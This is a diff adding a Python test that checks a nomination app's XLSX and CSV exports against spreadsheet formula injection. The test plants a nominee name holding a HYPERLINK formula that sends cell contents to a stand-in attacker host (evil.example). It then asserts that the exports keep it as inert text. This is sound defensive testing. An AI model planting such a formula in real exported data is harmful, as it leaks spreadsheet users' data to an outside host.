@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import csv
 import io
+import json
+import zipfile
 from collections.abc import Callable
 from datetime import date
 from pathlib import Path
@@ -13,6 +16,7 @@ from openpyxl import load_workbook
 
 from khenthuong.runtime import Runtime
 from khenthuong.services.history_import import COLUMNS, import_history
+from khenthuong.services.org import add_person
 from khenthuong.storage.db import write_tx
 from khenthuong.web.xlsx import XLSX_TYPE
 from tests.web.helpers import Headers, attach_dossier, person_id, propose, step
@@ -121,3 +125,49 @@ def test_person_history_export_reimports_as_the_same_history(
     assert other.get(f"/persons/{pid}", params={"format": "xlsx"}).status_code == 403
     auditor, _ = browser("kiemtra")
     assert len(sheet_rows(auditor.get(f"/persons/{pid}", params={"format": "xlsx"}))) == 5
+
+
+PLANTED = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+
+
+def test_exports_never_write_a_live_formula(
+    client: TestClient, token: Headers, browser: Browser, web_rt: Runtime
+) -> None:
+    """A nominee name or a comment that starts like a formula stays text in every export
+    (OWASP CSV injection): a string cell with a quote prefix in XLSX, an apostrophe in CSV."""
+    with write_tx(web_rt.engine) as conn:
+        add_person(conn, PLANTED, "CCYQD")
+    officer = token("cb.qd")
+    nid = propose(client, officer, person_id(client, officer, "HYPERLINK"))["id"]
+    attach_dossier(client, officer, nid)
+    step(client, officer, nid, "submit")
+    head, _ = browser("tt.qd")
+    response = head.get("/queue", params={"format": "xlsx"})
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert sheet is not None
+    cells = [row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == nid]
+    assert len(cells) == 1
+    assert cells[0].value == PLANTED and cells[0].data_type == "s" and cells[0].quotePrefix
+    # The workbook's XML holds the name as text, with no <f> (formula) element anywhere.
+    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
+        xml = book.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "HYPERLINK" in xml
+    # The audit trail as CSV: the planted name is in the create event's payload and a comment.
+    client.post(
+        f"/api/nominations/{nid}/advance",
+        json={"trigger": "return", "payload": {"reason": "-2+3 thiếu hồ sơ"}},
+        headers=token("tt.qd"),
+    )
+    text = client.get(
+        "/api/audit/events",
+        params={"nomination_id": nid, "format": "csv"},
+        headers=token("cb.qd"),
+    ).text
+    rows = list(csv.reader(io.StringIO(text)))
+    header, body = rows[0], rows[1:]
+    assert body, text
+    for row in body:
+        for value in row:
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    payload = json.loads(body[0][header.index("payload")])
+    assert payload["nominee"] == PLANTED  # JSON, not a Python dict's repr
